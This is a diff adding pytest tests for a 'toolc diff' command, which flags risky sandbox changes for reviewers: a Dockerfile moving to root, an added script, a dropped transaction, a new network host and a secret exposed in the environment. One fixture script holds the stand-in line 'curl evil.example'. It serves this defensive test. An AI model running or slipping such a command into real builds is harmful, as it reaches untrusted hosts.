@@ -1,0 +1,96 @@
+"""Exactly what ``toolc diff`` prints for changes whose lines a reviewer must see."""
+
+from pathlib import Path
+
+import pytest
+from diff_command import diff
+from repositories import Repository
+from reviewing import PLAIN
+
+DOCKERFILE = "FROM debian:bookworm\nRUN apt-get update\nUSER nobody\n"
+
+
+@pytest.fixture
+def repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Repository:
+    done = Repository.make(tmp_path / "repository")
+    monkeypatch.chdir(done.top)
+    return done
+
+
+def printed(repository: Repository, old: dict[str, str], new: dict[str, str], *arguments: str) -> list[str]:
+    """Return the lines about a changed tool, without fingerprints and the summary."""
+    repository.commit(old)
+    repository.commit(new)
+    text, _, _ = diff("HEAD~1", "HEAD", *arguments).stdout.partition("\ntools: ")
+    return [line.partition(" [")[0].rstrip() for line in text.splitlines() if line]
+
+
+def test_lines_of_a_dockerfile(repository: Repository) -> None:
+    spec = f"{PLAIN}sandbox: {{build: image}}\n"
+    old = {"a.yaml": spec, "image/Dockerfile": DOCKERFILE, "image/run.sh": "true\n"}
+    new = {"image/Dockerfile": DOCKERFILE.replace("nobody", "root"), "image/more.sh": "curl evil.example\n"}
+    assert printed(repository, old, new) == [
+        "look: changed",
+        "  high RSK03: the file Dockerfile of the image changed",
+        "    at a.yaml:10:18, before at a.yaml:10:18",
+        "    @@ -2,2 +2,2 @@",
+        "     RUN apt-get update",
+        "    -USER nobody",
+        "    +USER root",
+        "  high RSK03: the file more.sh of the image was added",
+        "    at a.yaml:10:18, before at a.yaml:10:18",
+        "    +curl evil.example",
+    ]
+
+
+def test_lines_of_a_dockerfile_in_a_comment(repository: Repository) -> None:
+    spec = f"{PLAIN}sandbox: {{build: image}}\n"
+    repository.commit({"a.yaml": spec, "image/Dockerfile": DOCKERFILE})
+    repository.commit({"image/Dockerfile": DOCKERFILE.replace("nobody", "root")})
+    text = diff("HEAD~1", "HEAD", "--format", "markdown").stdout
+    assert "  ```diff\n  @@ -2,2 +2,2 @@\n   RUN apt-get update\n  -USER nobody\n  +USER root\n" in text
+
+
+def test_a_file_that_is_not_text(repository: Repository) -> None:
+    repository.write({"a.yaml": f"{PLAIN}sandbox: {{build: image}}\n", "image/Dockerfile": DOCKERFILE})
+    for content in (b"\xff\xfe\x00", b"\xff\xfe\x00\x01"):
+        Path("image/tool.bin").write_bytes(content)
+        repository.commit({})
+    lines = diff("HEAD~1", "HEAD").stdout.splitlines()
+    assert lines[1].startswith("  high RSK03: the file tool.bin of the image changed [")
+    assert lines[3].startswith("    -(3 bytes, not text, sha256:")
+    assert lines[4].startswith("    +(4 bytes, not text, sha256:")
+
+
+def test_a_transaction_that_is_removed(repository: Repository) -> None:
+    old, new = (f"{PLAIN}sandbox: {{workspace: {mode}}}\n" for mode in ("transaction", "rw"))
+    assert printed(repository, {"a.yaml": old}, {"a.yaml": new}) == [
+        "look: changed",
+        "  critical RSK02: changes of the workspace can no longer be undone: they are made without a transaction",
+        "    at a.yaml:10:22, before at a.yaml:10:22",
+        "    -transaction",
+        "    +rw",
+    ]
+
+
+def test_a_host_of_a_project_default(repository: Repository) -> None:
+    old = {"a.yaml": PLAIN, "toolc.yaml": "defaults: {sandbox: {network: {allow: [a.example.com:443]}}}\n"}
+    new = {"toolc.yaml": "defaults: {sandbox: {network: {allow: [a.example.com:443, b.example.com:443]}}}\n"}
+    assert printed(repository, old, new) == [
+        "look: changed",
+        "  high RSK01: a call may now reach b.example.com:443, through toolc.yaml",
+        "    at toolc.yaml:1:39, before at toolc.yaml:1:39",
+        "    +b.example.com:443",
+    ]
+
+
+def test_a_secret_that_moves_to_the_environment(repository: Repository) -> None:
+    old, new = (f"{PLAIN}sandbox: {{secrets: {{TOKEN: {{expose: {each}}}}}}}\n" for each in ("file", "env"))
+    reason = "now available in the environment of every process in the sandbox"
+    assert printed(repository, {"a.yaml": old}, {"a.yaml": new}) == [
+        "look: changed",
+        f"  high RSK06: the value of the secret TOKEN is {reason}",
+        "    at a.yaml:10:28, before at a.yaml:10:28",
+        "    -TOKEN (file)",
+        "    +TOKEN (env)",
+    ]
